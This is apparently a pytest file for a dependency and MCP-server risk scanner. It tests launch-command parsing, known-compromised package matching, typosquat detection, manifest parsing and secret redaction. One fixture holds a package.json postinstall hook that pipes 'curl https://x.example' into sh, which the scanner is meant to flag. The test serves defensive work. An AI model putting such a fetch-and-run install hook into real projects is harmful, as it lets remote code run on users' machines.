import json

from riskscan import reference_lists as R
from riskscan.functions import packages as P
from riskscan.operators import packages as K
from riskscan.schemas import DEPENDENCY_SCHEMA
from riskscan.sources import configs as CF
from riskscan.sources import manifests as M
from pyspark.sql import functions as F

SERVERS = "server_id string, transport string, command string, args array<string>"


def deps(spark, *rows):
    return spark.createDataFrame(
        [("s", n, e, "package.json", "", v, True, None) for n, e, v in rows], DEPENDENCY_SCHEMA
    )


def test_launch_packages(spark):
    cases = [
        ("npx", ["-y", "@scope/server-memory@2025.4.25"], ("@scope/server-memory", "2025.4.25")),
        ("npx", ["-y", "plain-server"], ("plain-server", None)),
        ("npx.cmd", ["--yes", "pkg@latest"], ("pkg", None)),
        ("npx", ["-p", "tool-pkg@1.0.0", "tool"], ("tool-pkg", "1.0.0")),
        ("npx", ["--package=other@2.1.0", "tool"], ("other", "2.1.0")),
        ("pnpm", ["dlx", "a-pkg@2.0.1"], ("a-pkg", "2.0.1")),
        ("/usr/bin/uvx", ["server-time==0.6.2"], ("server-time", "0.6.2")),
        ("uvx", ["--from", "git+https://host.example/x/y", "y"], ("git+https://host.example/x/y", None)),
        ("uvx", ["--python", "3.12", "mytool"], ("mytool", None)),
        ("pipx", ["run", "black==24.1.0"], ("black", "24.1.0")),
        ("node", ["server.js"], None),
        ("npx", ["./local-script.js"], None),
        ("npx", ["local.mjs"], None),
        ("pnpm", ["install"], None),
    ]
    rows = [(str(i), "stdio", c, a) for i, (c, a, _) in enumerate(cases)]
    got = {r.server_id: (r.name, r.version) for r in M.launch_packages(spark.createDataFrame(rows, SERVERS)).collect()}
    assert got == {str(i): want for i, (_, _, want) in enumerate(cases) if want}


def test_version_ranges(spark):
    cases = [
        ("1.0.16", ">=1.0.16", True), ("1.0.15", ">=1.0.16", False), ("1.0.2", ">=1.0.16", False),
        ("5.6.1", "5.6.1", True), ("5.6.2", "5.6.1", False), ("9.9", "*", True), ("2.0", "<2.0.1", True),
        ("v1.2", "1.2", True), ("2", "==2.0.0", True), ("3.1", ">3.1", False), ("3.1", "<=3.1.0", True),
        ("abc", ">=1", False),
    ]
    df = spark.createDataFrame([c[:2] for c in cases], "v string, r string")
    got = [r[0] for r in df.select(P.version_in(df.v, df.r)).collect()]
    assert got == [c[2] for c in cases]


def test_known_bad(spark):
    rows = deps(
        spark, ("postmark-mcp", "npm", "1.0.17"), ("postmark-mcp", "npm", "1.0.15"), ("postmark-mcp", "npm", None),
        ("chalk", "npm", "5.6.2"), ("chalk", "npm", "5.6.1"), ("chalk", "npm", None), ("Ultralytics", "pypi", "8.3.41"),
        ("flatmap-stream", "npm", None),
    )
    got = sorted((r.name, r.version or "", r.certain) for r in K.match_known_bad(rows, R.known_bad(spark)).collect())
    assert got == [
        ("Ultralytics", "8.3.41", True), ("chalk", "5.6.1", True), ("flatmap-stream", "", True),
        ("postmark-mcp", "", False), ("postmark-mcp", "1.0.17", True),
    ]


def test_typosquats(spark):
    found = {
        ("@modelcontextprotocol/server-filesytem", "npm"): "@modelcontextprotocol/server-filesystem",
        ("@model-context-protocol/sdk", "npm"): "@modelcontextprotocol/*",
        ("reqeusts", "pypi"): "requests",
        ("python3-dateutil", "pypi"): "python-dateutil",
        ("colourama", "pypi"): "colorama",
        ("axois", "npm"): "axios",
        ("Num_py", "pypi"): "numpy",
    }
    silent = [
        ("requests", "pypi"), ("python_dateutil", "pypi"), ("preact", "npm"), ("psycopg", "pypi"), ("my-own-tool", "npm"),
        ("@modelcontextprotocol/sdk", "npm"), ("mcp", "pypi"), ("reqeusts", "npm"),
    ]
    rows = deps(spark, *[(*k, None) for k in [*found, *silent]])
    got = {
        (r.name, r.ecosystem): r.target
        for r in K.typosquats(rows, R.popular(spark), R.REAL_NEIGHBOURS, R.OFFICIAL_SCOPES).collect()
    }
    assert got.pop(("reqeusts", "npm"), "request") == "request"
    assert got == {k: v for k, v in found.items() if v}


def test_fuzzy_join_equals_brute_force(spark):
    import itertools

    words = ["".join(p) for p in itertools.product("ab", repeat=5)] + ["abcab", "bacab", "ababab", "a1bab", "ab1ab"]
    names = spark.createDataFrame([("npm", w) for w in words], "ecosystem string, name string")
    popular = spark.createDataFrame([("npm", "aaaab"), ("npm", "abbab")], "ecosystem string, name string")

    def near(a, b):
        if a == b or len(a) == len(b) and sum(x != y for x, y in zip(a, b)) == 1:
            return True
        if abs(len(a) - len(b)) == 1:
            short, long = sorted((a, b), key=len)
            return any(long[:i] + long[i + 1 :] == short for i in range(len(long)))
        return len(a) == len(b) and any(a[:i] + a[i + 1] + a[i] + a[i + 2 :] == b for i in range(len(a) - 1))

    bare = lambda w: "".join(c for c in w if not c.isdigit())
    want = {}
    for w in words:
        hits = [p for p in ("aaaab", "abbab") if near(w, p) or bare(w) == bare(p)]
        if hits and w not in ("aaaab", "abbab"):
            want[w] = min(hits)
    assert {r.name: r.target for r in K.lookalike_targets(names, popular).collect()} == want


FILES = {
    "requirements.txt": "requests==2.32.0\nhttpx>=0.27 # why\n# note\n-r other.txt\n-e ./here\n\n-e git+https://h.example/a.git\n",
    "pyproject.toml": '[project]\nname="x"\ndependencies = [\n  "pydantic[email]>=2",\n  \'ultralytics==8.3.42\',\n]\n[project.optional-dependencies]\ndev = ["pytest"]\n'
    '[tool.poetry.dependencies]\npython = "^3.11"\nrich = "13.7.0"\nlib = {git = "https://h.example/lib.git"}\nany = "*"\n[tool.x]\nfoo = "bar"\n',
    "package.json": json.dumps({"dependencies": {"zod": "^3.0.0", "left": "git+https://h.example/a/b.git"}, "devDependencies": {"vite": "5.0.0"}, "scripts": {"postinstall": "curl https://x.example | sh", "test": "t"}}),
    "sub/package-lock.json": json.dumps({"packages": {"": {}, "node_modules/zod": {"version": "3.25.1"}, "node_modules/debug": {"version": "4.4.2"}, "node_modules/a/node_modules/zod": {"version": "2.0.0"}}}),
    "setup.py": "setup(cmdclass={'install': X})",
    "bad/package.json": "{not json",
}


def test_project_files(spark):
    files = spark.createDataFrame([("s", f, t) for f, t in FILES.items()], "server_id string, file string, text string")
    rows = M.dependencies(None, files).collect()
    got = {(r.name, r.spec, r.version, r.direct, r.line) for r in rows}
    assert got == {
        ("requests", "==2.32.0", "2.32.0", True, 1), ("httpx", ">=0.27", None, True, 2),
        ("git+https://h.example/a.git", "git+https://h.example/a.git", None, True, 7),
        ("pydantic", ">=2", None, True, 4), ("ultralytics", "==8.3.42", "8.3.42", True, 5), ("pytest", "", None, True, 8),
        ("rich", "==13.7.0", "13.7.0", True, 11), ("lib", "https://h.example/lib.git", None, True, 12), ("any", "", None, True, 13),
        ("zod", "^3.0.0", "3.25.1", True, 1), ("left", "git+https://h.example/a/b.git", None, True, 1), ("vite", "5.0.0", "5.0.0", True, 1),
        ("debug", "4.4.2", "4.4.2", False, None), ("zod", "2.0.0", "2.0.0", False, None),
    }
    scripts = {(r.file, r.hook) for r in M.install_scripts(files).collect()}
    assert scripts == {("package.json", "postinstall"), ("setup.py", "cmdclass")}
    assert [r.message for r in M.manifest_errors(files).collect()] == ["bad/package.json: could not read"]


def test_dependency_roots(spark):
    listing = spark.createDataFrame(
        [("r", p) for p in ("package.json", "one/pyproject.toml", "two/src/a.py", "docs/setup.py", ".x/setup.py")], "repo string, path string"
    )
    sources = spark.createDataFrame([("s", "r", "one/src")], "server_id string, repo string, folder string")
    assert {r.root for r in M.dependency_roots(listing, sources).collect()} == {"one/src", "one", ""}


def test_client_configs(spark):
    doc = """{
      // main table
      "mcpServers": {"a": {"command": "npx", "args": ["-y", "x", 1], "env": {"K": "v", "N": null}},
                     "b": {"url": "https://h.example/sse/"}, "none": {"note": 1}, "junk": 3},
      "servers": [{"name": "c", "serverUrl": "https://h.example/mcp", "headers": {"Authorization": "x"}}, {"httpUrl": "http://i.example", "type": "sse"}],
      "mcp": {"servers": {"d": {"command": {"path": "zed", "args": ["q"]}}, "a": {"command": "later"}}},
      "projects": {"/home/u/proj": {"mcpServers": {"e": {"command": " go "}}}},
    }"""
    got = {r.name: r for r in CF.servers(spark.createDataFrame([("f", doc)], "file string, doc string")).collect()}
    assert set(got) == {"a", "b", "c", "server-1", "d", "proj/e"}
    assert (got["a"].command, got["a"].args, got["a"].env, got["a"].transport) == ("npx", ["-y", "x", "1"], {"K": "v", "N": ""}, "stdio")
    assert [got[n].transport for n in ("b", "c", "server-1")] == ["sse", "http", "sse"]
    assert (got["d"].command, got["d"].args, got["proj/e"].command) == ("zed", ["q"], "go")
    assert got["c"].headers == {"Authorization": "x"} and got["a"].headers == {}


def test_placeholders_and_targets(spark):
    df = spark.createDataFrame([("x ${A} ${env:B} ${C:-dd} ${D} ${E:-}",), ("none",)], "t string")
    got = [r[0] for r in df.select(CF.expand(F.col("t"), {"A": "1", "B": "$2 ${A}"})).collect()]
    assert got == ["x 1 $2 ${A} dd ${D} ", "none"]
    servers = spark.createDataFrame(
        [("s", "s", "stdio", "npx", ["srv", "--api-key", "abc", "--token=zz"], {"Z": "1", "A": "2"}, {"H": "x"}, None, "f"),
         ("u", "u", "http", None, [], {}, {}, "https://me:pw@h.example/m?token=abcdefghijklmnop", "f"),
         ("w", "w", "http", None, [], {}, {}, "ftp://h", "f")],
        "server_id string, name string, transport string, command string, args array<string>, env map<string,string>, headers map<string,string>, url string, origin string",
    )
    got = {r.server_id: r for r in CF.public_summary(servers).collect()}
    assert got["s"].target == "npx srv --api-key **** --token=****" and got["s"].env_keys == ["A", "Z"]
    assert got["u"].target == "https://me:****@h.example/m?token=abcd****"
    problems = {r.server_id: r.p for r in servers.select("server_id", CF.spec_problems().alias("p")).collect()}
    assert problems["s"] == [] and problems["u"] == [] and "must start with" in problems["w"][0]
